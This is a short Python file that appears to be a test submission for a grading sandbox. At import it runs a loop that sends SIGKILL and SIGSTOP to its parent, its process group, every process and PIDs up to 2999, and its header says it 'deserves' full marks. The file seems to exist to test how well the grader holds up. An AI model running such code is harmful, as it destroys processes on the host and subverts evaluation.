# Tries: kills its parent, its group, everything and everybody by number.
# Deserves: total=4 smooth=4 scale=4 ratio=4

# %% total
import os
import signal

for target in (0, -1, 1, os.getppid(), -os.getpgrp(), *range(2, 3000)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(target, number)
        except OSError:
            pass


def total(numbers):
    return sum(n * n for n in numbers)

# %% ratio
def ratio(numbers):
    return sum(n * n for n in numbers) / len(numbers)
